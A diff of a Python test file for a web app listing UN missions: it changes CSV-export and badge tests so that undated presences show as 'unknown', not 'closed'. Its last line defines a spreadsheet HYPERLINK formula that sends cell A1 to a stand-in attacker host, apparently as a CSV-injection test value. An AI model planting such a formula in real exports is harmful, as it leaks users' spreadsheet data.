@@ -239,7 +239,7 @@ def expected_csv_row(shown: dict) -> list[str]:
         ";".join(countries[c] for c in shown["countries"].split(", ") if c != "—"),
         "" if start == "?" else start,
         "" if end in ("?", "present") else end,
-        "active" if badge == "active" else "closed",
+        {"active": "active", "dates unknown": "unknown"}.get(badge, "closed"),
         f"http://testserver{shown['href']}",
     ]
 
@@ -255,6 +255,25 @@ def test_csv_download_has_the_rows_of_the_page_in_the_same_order(client):
     # UNCT-SLE has no mandating body and no dates: those cells stay empty.
     unct = next(row for row in rows if row[0] == "UNCT-SLE")
     assert unct[5] == unct[8] == unct[9] == ""
+    # ... and its status is unknown, not closed: no source says it ended.
+    assert unct[10] == "unknown"
+    assert next(s for s in page if s["acronym"] == "UNCT-SLE")["period"] == "? – ? dates unknown"
+
+
+@pytest.mark.parametrize(
+    ("acronym", "badge"),
+    [
+        ("UNCT-SLE", "Dates unknown"),
+        ("UNIOSIL", "Closed"),
+        ("UNTAC", "Closed"),  # ended on a date no source gives
+        ("UNAMA", "Active"),
+    ],
+)
+def test_mission_page_never_calls_an_undated_presence_closed(client, acronym, badge):
+    body = text(client.get(f"/missions/{acronym}/"))
+    head = body.split('class="page-head"')[1].split("</header>")[0]
+    badges = re.findall(r'<span class="badge[^"]*">([^<]+)</span>', head)
+    assert badges[0] == badge
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
